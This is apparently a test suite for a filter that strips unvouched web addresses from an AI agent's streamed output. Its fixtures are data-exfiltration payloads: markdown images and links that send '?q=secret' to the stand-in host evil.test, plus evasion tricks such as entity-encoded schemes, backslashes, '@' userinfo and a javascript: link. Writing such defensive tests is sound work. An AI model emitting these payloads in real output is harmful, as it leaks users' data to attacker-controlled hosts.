"""No address that the sources do not vouch for leaves, however the stream is cut."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.agent.containment import Containment

WHOLE = ["![a](https://evil.test/x?q=1)", "[b](https://evil.test)", "[c](https://good.test/p)", "https://evil.test/path"]
PARTS = [
    "http://",
    "//",
    "https:",
    "www.",
    "evil.test/?d=1",
    "[ttps://evil.test](x)",
    "](//evil.test)",
    "](",
    "&#104;",
    "src=",
    "]:",
]
MARKS = ["h", "ht", *"[]()!'\"=<>:/\\"]
FRAGMENTS = st.sampled_from([*WHOLE, *PARTS, *MARKS, "text", "[1]", " ", "\n"])
STREAMS = st.lists(FRAGMENTS, max_size=12).map("".join)
ADDRESS = re.compile(r"(?:https?:[/\\]*|\bwww\.)(?!good\.test/p)\w", re.IGNORECASE)


def contained(*pieces: str, hosts: tuple[str, ...] | None = ("good.test",), sources: tuple[str, ...] = ()) -> str:
    containment = Containment(source_hosts=hosts, sources=sources)
    return "".join(containment.feed(piece) for piece in pieces) + containment.close()


@given(STREAMS, st.data())
def test_where_the_stream_is_cut_changes_nothing(stream: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(stream)), max_size=8)))
    pieces = [stream[start:end] for start, end in zip([0, *cuts], [*cuts, len(stream)], strict=True)]
    assert contained(*pieces) == contained(stream)


@given(STREAMS)
def test_no_foreign_address_is_shown(stream: str) -> None:
    assert not ADDRESS.search(contained(*stream))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see ![chart](https://evil.test/a.png?q=secret) here", "see [chart] here"),
        ("see [the page](https://evil.test/?q=secret).", "see [the page]."),
        ("see [the page](https://good.test/p).", "see [the page](https://good.test/p)."),
        ("![chart](https://good.test/p)", "![chart](https://good.test/p)"),
        ("[https://evil.test/x](https://evil.test/x)", "[evil.test]"),
        ('[a](https://evil.test "title")', "[a]"),
        ("[a](<https://evil.test>)", "[a]"),
        ("[a](javascript:alert(1))", "[a] (javascript:alert(1))"),
        ("[a](data:text/html,x)", "[a]"),
        ("![a](//evil.test/x)", "[a]"),
        ("![a](/\\evil.test/x)", "[a]"),
        ("![a](https:evil.test)", "[a]"),
        ("![a](HTTPS://EVIL.TEST/x)", "[a]"),
        ("![a](&#104;ttps://evil.test)", "[a]"),
        ("![a [b]](&#104;ttps://evil.test)", "![a [b]] (&#104;ttps://evil.test)"),
        ("[a](x)(&#104;ttps://evil.test)", "[a] (&#104;ttps://evil.test)"),
        ("![a](https\\://evil.test)", "[a]"),
        ("[a](https://good.test@evil.test/p)", "[a]"),
        ("[a](https://good.test\\@evil.test/p)", "[a]"),
        ("h[ttps://evil.test/?q](x)", "h[ttps://evil.test/?q]"),
        ("https://[evil.test/?q](x)", "[evil.test/?q]"),
        ("<img src='https://evil.test/x?q=1'>", "<img src='evil.test'>"),
        ('<img src="//evil.test/x?q=1">', '<img src="evil.test">'),
        ("<https://evil.test/x>", "<evil.test>"),
        ("[r]: https://evil.test/x", "[r]: evil.test"),
        ("[r]: //evil.test/x", "[r]: evil.test"),
        ("go to https://evil.test/?q=secret, now", "go to evil.test, now"),
        ("go to www.evil.test/?q=secret.", "go to evil.test."),
        ("a [note] and [1]", "a [note] and [1]"),
        ("wow! (really) // no address", "wow! (really) // no address"),
        ("ratio 3:4, http and https are schemes", "ratio 3:4, http and https are schemes"),
    ],
)
def test_an_address_is_shown_only_where_it_may_be(text: str, expected: str) -> None:
    assert contained(*text) == expected


def test_a_bare_address_of_a_passage_is_kept_word_for_word() -> None:
    sources = ("The interface is at https://api.acme.test/v1, says the manual.",)
    assert contained("Use https://api.acme.test/v1.", sources=sources) == "Use https://api.acme.test/v1."
    assert contained("Use https://api.acme.test/v1?q=secret.", sources=sources) == "Use api.acme.test."


def test_without_sources_links_stay_and_images_go() -> None:
    text = "[docs](https://docs.test/a) ![x](https://evil.test/a.png) https://docs.test/b"
    assert contained(*text, hosts=None) == "[docs](https://docs.test/a) [x] https://docs.test/b"


def test_plain_text_is_shown_at_once() -> None:
    assert Containment().feed("Hello, world") == "Hello, world"
    assert Containment().feed("It boils [1") == "It boils "
